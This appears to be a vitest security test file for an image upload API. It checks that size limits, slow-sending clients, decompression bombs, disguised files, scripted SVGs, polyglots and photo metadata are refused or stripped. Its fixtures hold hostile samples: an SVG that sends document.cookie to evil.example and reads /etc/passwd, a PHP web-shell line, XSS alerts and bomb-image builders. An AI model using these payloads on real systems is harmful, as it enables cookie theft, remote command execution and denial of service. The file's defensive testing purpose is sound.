import { connect } from 'node:net';
import { crc32, deflateSync } from 'node:zlib';
import sharp from 'sharp';
import { describe, expect, vi } from 'vitest';
import { Upload } from '../../../src/contract/index.js';
import { LINGER } from '../../../src/server/http/lingering-close.js';
import { listen, type StagingBff } from '../../../src/server/index.js';
import { afterThisTest, expectError, fixture, makeBff, mintSession, req } from '../helpers.js';
import { attack, nothingStored } from './ledger.js';

async function attacker(overrides: Parameters<typeof makeBff>[0] = {}) {
  const bff = makeBff(overrides);
  const { token } = await mintSession(bff, { subject: 'mallory' });
  return { bff, token };
}

const post = async (bff: StagingBff, token: string, body: BodyInit | Uint8Array, type = 'image/jpeg', extra: RequestInit = {}): Promise<Response> =>
  req(bff, '/v1/uploads', { method: 'POST', token, headers: { 'Content-Type': type }, body: body as BodyInit, ...extra, ...({ duplex: 'half' } as object) });

/** Asserts the upload is refused with the documented error and nothing reaches the store or the disk. */
async function refused(bff: StagingBff, send: () => Response | Promise<Response>, status: number, code: string) {
  return nothingStored(bff, ['mallory'], async () => expectError(await send(), status, code));
}

function pngChunk(type: string, data: Buffer): Buffer {
  const len = Buffer.alloc(4);
  len.writeUInt32BE(data.length);
  const td = Buffer.concat([Buffer.from(type, 'ascii'), data]);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(td));
  return Buffer.concat([len, td, crc]);
}

/** A valid-looking PNG of `w`×`h` whose compressed data is a few bytes: the classic decompression bomb. */
function bombPng(w: number, h: number): Uint8Array {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(w, 0);
  ihdr.writeUInt32BE(h, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  const sig = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);
  return new Uint8Array(Buffer.concat([sig, pngChunk('IHDR', ihdr), pngChunk('IDAT', deflateSync(Buffer.alloc(4096))), pngChunk('IEND', Buffer.alloc(0))]));
}

/** A small real JPEG whose SOF header is patched to claim `w`×`h`. */
async function bombJpeg(w: number, h: number): Promise<Uint8Array> {
  const jpg = await sharp({ create: { width: 16, height: 16, channels: 3, background: '#777' } }).jpeg().toBuffer();
  for (let i = 2; i < jpg.length - 9; i++) {
    if (jpg[i] === 0xff && (jpg[i + 1] === 0xc0 || jpg[i + 1] === 0xc2)) {
      jpg.writeUInt16BE(h, i + 5);
      jpg.writeUInt16BE(w, i + 7);
      return new Uint8Array(jpg);
    }
  }
  throw new Error('no SOF marker');
}

/** A stream that yields `chunk` until `max` bytes, counting what the server pulled. */
function endless(chunk: number, max: number) {
  const state = { pulled: 0, cancelled: false };
  const stream = new ReadableStream<Uint8Array>({
    pull(ctrl) {
      if (state.pulled >= max) return ctrl.close();
      state.pulled += chunk;
      ctrl.enqueue(new Uint8Array(chunk).fill(0xff));
    },
    cancel() {
      state.cancelled = true;
    },
  });
  return { stream, state };
}

/**
 * After a refusal the rest of a body is read and thrown away (so that a client still sending
 * can read the answer: a lingering close), never kept, and at most `LINGER.maxBytes` of it.
 */
async function discardedWithinBound(state: { pulled: number; cancelled: boolean }, limit: number) {
  await vi.waitFor(() => expect(state.cancelled).toBe(true), { timeout: 30_000, interval: 50 });
  expect(state.pulled).toBeLessThanOrEqual(limit + LINGER.maxBytes + 4 * 16_384);
}

async function storedBlob(bff: StagingBff, id: string): Promise<Buffer> {
  const u = await bff.deps.store.getUpload(id);
  return bff.deps.blobs.get(u!.blobKey);
}

/** A raw HTTP request over a socket that sends the body `bytesPerTick` at a time, every `tickMs`. */
function trickle(port: number, token: string, opts: { declared: number; tickMs: number; bytesPerTick: number; sendFor: number }) {
  return new Promise<{ status: number; body: string; elapsed: number }>((resolve, reject) => {
    const t0 = Date.now();
    const socket = connect(port, '127.0.0.1');
    let answer = '';
    let timer: ReturnType<typeof setInterval> | undefined;
    const hardStop = setTimeout(() => {
      socket.destroy();
      reject(new Error(`server still waiting after ${Date.now() - t0} ms`));
    }, 8000);
    socket.on('connect', () => {
      socket.write(
        `POST /v1/uploads HTTP/1.1\r\nHost: 127.0.0.1\r\nAuthorization: Bearer ${token}\r\nContent-Type: image/jpeg\r\nContent-Length: ${opts.declared}\r\n\r\n`,
      );
      socket.write(Buffer.from([0xff, 0xd8, 0xff]));
      let sent = 0;
      timer = setInterval(() => {
        if (sent >= opts.sendFor || socket.destroyed) return;
        sent++;
        socket.write(Buffer.alloc(opts.bytesPerTick, 0x41));
      }, opts.tickMs);
    });
    socket.on('data', (d) => {
      answer += d.toString('latin1');
      const head = answer.indexOf('\r\n\r\n');
      const len = /content-length: (\d+)/i.exec(answer)?.[1];
      if (head >= 0 && len && answer.length >= head + 4 + Number(len)) {
        clearInterval(timer);
        clearTimeout(hardStop);
        socket.destroy();
        resolve({ status: Number(answer.slice(9, 12)), body: answer.slice(head + 4), elapsed: Date.now() - t0 });
      }
    });
    socket.on('error', (e) => {
      clearInterval(timer);
      if (answer) return;
      clearTimeout(hardStop);
      reject(e);
    });
  });
}

describe('uploads: size and time', () => {
  attack('uploads', 'Content-Length over the limit is refused before the body is read; the rest is only discarded, within the lingering bound', async () => {
    const { bff, token } = await attacker({ upload: { maxBytes: 100_000 } });
    const { stream, state } = endless(16_384, 500_000_000);
    let atRefusal = -1;
    await refused(bff, () => post(bff, token, stream, 'image/jpeg', { headers: { 'Content-Type': 'image/jpeg', 'Content-Length': '100001' } }).then((r) => ((atRefusal = state.pulled), r)), 413, 'payload_too_large');
    expect(atRefusal, "at most the one chunk a stream pulls ahead").toBeLessThanOrEqual(16_384);
    await discardedWithinBound(state, 100_000);
    await refused(bff, () => post(bff, token, new Uint8Array(100_001).fill(0xff)), 413, 'payload_too_large');
  });

  attack('uploads', 'a stream over the limit without Content-Length (raw and multipart) is refused at the limit; the rest is only discarded, within the lingering bound', async () => {
    const { bff, token } = await attacker({ upload: { maxBytes: 100_000 } });
    for (const type of ['image/jpeg', 'multipart/form-data; boundary=xyz']) {
      const { stream, state } = endless(16_384, 500_000_000);
      let atRefusal = -1;
      await refused(bff, () => post(bff, token, stream, type).then((r) => ((atRefusal = state.pulled), r)), 413, 'payload_too_large');
      expect(atRefusal, type).toBeLessThan(400_000);
      // Multipart may read 64 KB of framing beyond the file's limit.
      await discardedWithinBound(state, type.startsWith('multipart/') ? 100_000 + 64 * 1024 : 100_000);
    }
  });

  attack('uploads', 'slowloris: a body trickling a few bytes at a time over a real socket hits the total upload timeout (408)', async () => {
    const bff = makeBff({ upload: { idleTimeoutMs: 1000, totalTimeoutMs: 2000 } });
    const { token } = await mintSession(bff, { subject: 'mallory' });
    const server = await listen(bff, 0);
    afterThisTest(() => server.close());
    await nothingStored(bff, ['mallory'], async () => {
      const r = await trickle(server.port, token, { declared: 1_000_000, tickMs: 100, bytesPerTick: 3, sendFor: 1000 });
      expect(r.status).toBe(408);
      expect(JSON.parse(r.body).error).toMatchObject({ code: 'request_timeout', reason: 'total' });
      expect(r.elapsed).toBeGreaterThanOrEqual(1900);
      expect(r.elapsed).toBeLessThan(5000);
    });
  });

  attack('uploads', 'a body that stalls after a few bytes hits the idle timeout (408)', async () => {
    const bff = makeBff({ upload: { idleTimeoutMs: 400, totalTimeoutMs: 10_000 } });
    const { token } = await mintSession(bff, { subject: 'mallory' });
    const server = await listen(bff, 0);
    afterThisTest(() => server.close());
    await nothingStored(bff, ['mallory'], async () => {
      const r = await trickle(server.port, token, { declared: 50_000, tickMs: 50, bytesPerTick: 10, sendFor: 2 });
      expect(r.status).toBe(408);
      expect(JSON.parse(r.body).error).toMatchObject({ code: 'request_timeout', reason: 'idle' });
      expect(r.elapsed).toBeLessThan(3000);
    });
  });
});

describe('uploads: hostile images', () => {
  attack('uploads', 'decompression bombs: PNG, JPEG and GIF headers claiming huge dimensions in a tiny file', async () => {
    const { bff, token } = await attacker();
    const png = bombPng(100_000, 100_000);
    expect(png.byteLength).toBeLessThan(1000);
    const e = await refused(bff, () => post(bff, token, png, 'image/png'), 422, 'image_too_large');
    expect(e).toMatchObject({ width: 100_000, height: 100_000 });
    await refused(bff, () => post(bff, token, bombPng(8000, 7000), 'image/png'), 422, 'image_too_large');
    await refused(bff, () => post(bff, token, bombPng(1, 60_000_000)), 422, 'image_too_large');
    await refused(bff, async () => post(bff, token, await bombJpeg(65_000, 65_000)), 422, 'image_too_large');
    // GIF: logical screen 65535×65535.
    const gif = Buffer.from('47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b', 'hex');
    gif.writeUInt16LE(65535, 6);
    gif.writeUInt16LE(65535, 8);
    gif.writeUInt16LE(65535, 0x1b);
    gif.writeUInt16LE(65535, 0x1d);
    const r = await nothingStored(bff, ['mallory'], async () => post(bff, token, new Uint8Array(gif), 'image/gif'));
    expect([422]).toContain(r.status);
    expect(['image_too_large', 'image_unreadable']).toContain(((await r.json()) as { error: { code: string } }).error.code);
  });

  attack('uploads', 'HEIC over the pixel limit is refused before decoding', async () => {
    const { bff, token } = await attacker({ upload: { maxPixels: 100_000 } }) // the fixture is 640×427;
    await refused(bff, () => post(bff, token, fixture('iphone.heic'), 'image/heic'), 422, 'image_too_large');
  });

  attack('uploads', 'wrong magic: HTML, PDF, ZIP, ELF, BMP, TIFF, AVIF, plain text labelled as images', async () => {
    const { bff, token } = await attacker();
    const avif = Buffer.concat([Buffer.from([0, 0, 0, 0x1c]), Buffer.from('ftypavif\0\0\0\0avifmif1miaf'), Buffer.alloc(64)]);
    const samples: Array<[string, Uint8Array, string]> = [
      ['html', new TextEncoder().encode('<html><script>alert(document.cookie)</script></html>'), 'image/jpeg'],
      ['pdf', new TextEncoder().encode('%PDF-1.7\n1 0 obj<<>>endobj'), 'image/png'],
      ['zip', new Uint8Array([0x50, 0x4b, 0x03, 0x04, ...new Array(60).fill(0)]), 'image/webp'],
      ['elf', new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, ...new Array(60).fill(0)]), 'application/octet-stream'],
      ['bmp', new Uint8Array([0x42, 0x4d, ...new Array(60).fill(0)]), 'image/bmp'],
      ['tiff', new Uint8Array([0x49, 0x49, 0x2a, 0, ...new Array(60).fill(0)]), 'image/tiff'],
      ['avif', new Uint8Array(avif), 'image/heic'],
      ['text', new TextEncoder().encode('hello'), 'image/gif'],
      ['2-byte jpeg magic', new Uint8Array([0xff, 0xd8]), 'image/jpeg'],
    ];
    for (const [, body, type] of samples) await refused(bff, () => post(bff, token, body, type), 415, 'unsupported_media_type');
    // Not an image content type at all.
    await refused(bff, () => post(bff, token, fixture('living-room-render.jpg'), 'text/html'), 415, 'unsupported_media_type');
    await refused(bff, () => post(bff, token, fixture('living-room-render.jpg'), ''), 415, 'unsupported_media_type');
  });

  attack('uploads', 'SVG with script, raw and in multipart, under any label', async () => {
    const { bff, token } = await attacker();
    const svg = new TextEncoder().encode('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="alert(1)"><script>fetch("https://evil.example/?c="+document.cookie)</script><image href="file:///etc/passwd"/></svg>');
    for (const type of ['image/svg+xml', 'image/png', 'image/jpeg', 'application/octet-stream']) await refused(bff, () => post(bff, token, svg, type), 415, 'unsupported_media_type');
    const form = new FormData();
    form.set('image', new Blob([svg], { type: 'image/png' }), 'photo.png');
    await refused(bff, () => req(bff, '/v1/uploads', { method: 'POST', token, body: form }), 415, 'unsupported_media_type');
  });

  attack('uploads', 'truncated and corrupt images', async () => {
    const { bff, token } = await attacker();
    const jpg = fixture('living-room-render.jpg');
    await refused(bff, () => post(bff, token, jpg.slice(0, Math.floor(jpg.length / 2))), 422, 'image_unreadable');
    await refused(bff, () => post(bff, token, jpg.slice(0, 600)), 422, 'image_unreadable');
    const png = fixture('sofa-clipart-transparent.png');
    await refused(bff, () => post(bff, token, png.slice(0, Math.floor(png.length * 0.6)), 'image/png'), 422, 'image_unreadable');
    const garbage = new Uint8Array(4096).map(() => Math.floor(Math.random() * 256));
    garbage.set([0xff, 0xd8, 0xff, 0xe0]);
    await refused(bff, () => post(bff, token, garbage), 422, 'image_unreadable');
    const pngHeaderOnly = bombPng(100, 100).slice(0, 33);
    await refused(bff, () => post(bff, token, pngHeaderOnly, 'image/png'), 422, 'image_unreadable');
    const gifHead = new TextEncoder().encode('GIF89a\x10\x00\x10\x00');
    await refused(bff, () => post(bff, token, gifHead, 'image/gif'), 422, 'image_unreadable');
  });

  attack('uploads', 'polyglots: JPEG+ZIP, JPEG+HTML, PNG+PHP and a GIF/JS polyglot are stored only as a fresh, clean encode', async () => {
    const { bff, token } = await attacker();
    const jpg = Buffer.from(fixture('kitchen-render.jpg'));
    const zip = Buffer.concat([Buffer.from('PK\x03\x04'), Buffer.from('evil.html<script>alert(1)</script>'), Buffer.from('PK\x05\x06'), Buffer.alloc(18)]);
    const png = Buffer.from(fixture('sofa-clipart-transparent.png'));
    const gifJs = Buffer.concat([Buffer.from('GIF89a/*'), Buffer.from([0x01, 0x00, 0x01, 0x00, 0x80, 0, 0, 0, 0, 0, 0xff, 0xff, 0xff]), Buffer.from('2c000000000100010000020244010021fe0a2a2f3d616c6572742831293b003b', 'hex'), Buffer.from('*/=alert("polyglot")//')]);
    const cases: Array<[string, Buffer, string, string]> = [
      ['jpeg+zip', Buffer.concat([jpg, zip]), 'image/jpeg', 'PK\x03\x04'],
      ['jpeg+html', Buffer.concat([jpg, Buffer.from('<html><script>alert(1)</script></html>')]), 'image/jpeg', '<script>'],
      ['jpeg with html in a COM segment', Buffer.concat([jpg.subarray(0, 2), Buffer.from([0xff, 0xfe, 0x00, 0x22]), Buffer.from('<script>alert(1)</script>......'), jpg.subarray(2)]), 'image/jpeg', '<script>'],
      ['png+php', Buffer.concat([png, Buffer.from('<?php system($_GET["c"]); ?>')]), 'image/png', '<?php'],
      ['gif/js', gifJs, 'image/gif', 'alert('],
    ];
    for (const [name, bytes, type, marker] of cases) {
      const res = await post(bff, token, new Uint8Array(bytes), type);
      if (res.status !== 201) {
        // Refusing is also fine, with the documented error and nothing stored.
        await expectError(res, res.status, res.status === 415 ? 'unsupported_media_type' : 'image_unreadable');
        expect([415, 422], name).toContain(res.status);
        continue;
      }
      const up = Upload.parse(await res.json());
      const stored = await storedBlob(bff, up.id);
      expect(stored.includes(Buffer.from(marker, 'latin1')), name).toBe(false);
      expect(stored.equals(bytes), name).toBe(false);
      const meta = await sharp(stored).metadata();
      expect(['jpeg', 'png'], name).toContain(meta.format);
      expect(meta.comments ?? [], name).toEqual([]);
      if (meta.format === 'jpeg') expect([...stored.subarray(-2)], name).toEqual([0xff, 0xd9]);
      else expect(stored.subarray(-8, -4).toString('latin1'), name).toBe('IEND');
      // What <img src> gets is the same clean encode, never the sent bytes.
      const served = Buffer.from(await (await req(bff, new URL(up.url).pathname + new URL(up.url).search, { origin: null })).arrayBuffer());
      expect(served.equals(stored), name).toBe(true);
    }
  });

  attack('uploads', 'GPS, EXIF, XMP and IPTC metadata never survive an upload', async () => {
    const { bff, token } = await attacker();
    const secretPlace = '53/1 20/1 4321/100';
    const withGps = await sharp(Buffer.from(fixture('living-room-render.jpg')))
      .withExif({ IFD0: { Make: 'SpyCam', Artist: 'Jane Seller, 12 Secret Lane' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: secretPlace, GPSLongitudeRef: 'W', GPSLongitude: '6/1 15/1 0/1' } })
      .withXmp('<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="53,20.72N"/></rdf:RDF></x:xmpmeta>')
      .jpeg()
      .toBuffer();
    const sent = await sharp(withGps).metadata();
    expect(sent.exif && sent.xmp).toBeTruthy();
    const png = await sharp(Buffer.from(fixture('sofa-clipart-transparent.png'))).withExif({ IFD0: { Artist: 'Jane Seller, 12 Secret Lane' } }).png().toBuffer();
    for (const [bytes, type] of [[withGps, 'image/jpeg'], [png, 'image/png']] as const) {
      const res = await post(bff, token, new Uint8Array(bytes), type);
      expect(res.status).toBe(201);
      const up = Upload.parse(await res.json());
      const stored = await storedBlob(bff, up.id);
      const meta = await sharp(stored).metadata();
      expect(meta.exif).toBeUndefined();
      expect(meta.xmp).toBeUndefined();
      expect(meta.iptc).toBeUndefined();
      for (const marker of ['Secret Lane', 'SpyCam', 'GPS', '53,20.72N', 'Exif\0\0']) expect(stored.includes(Buffer.from(marker, 'latin1')), marker).toBe(false);
    }
  });

  attack('uploads', 'multipart tricks: no "image" field, a text field named image, two files, a broken body', async () => {
    const { bff, token } = await attacker();
    const mk = (fill: (f: FormData) => void) => {
      const f = new FormData();
      fill(f);
      return f;
    };
    const jpg = new Blob([fixture('living-room-render.jpg')], { type: 'image/jpeg' });
    await refused(bff, () => req(bff, '/v1/uploads', { method: 'POST', token, body: mk((f) => f.set('file', jpg, 'a.jpg')) }), 400, 'invalid_request');
    await refused(bff, () => req(bff, '/v1/uploads', { method: 'POST', token, body: mk((f) => f.set('image', '<script>alert(1)</script>')) }), 400, 'invalid_request');
    await refused(bff, () => post(bff, token, '--xyz\r\nContent-Disposition: form-data; name="image"; filename="a.jpg"\r\n\r\n\xff\xd8', 'multipart/form-data; boundary=xyz'), 400, 'invalid_request');
    await refused(bff, () => post(bff, token, new Uint8Array(0)), 400, 'invalid_request');
  });
});
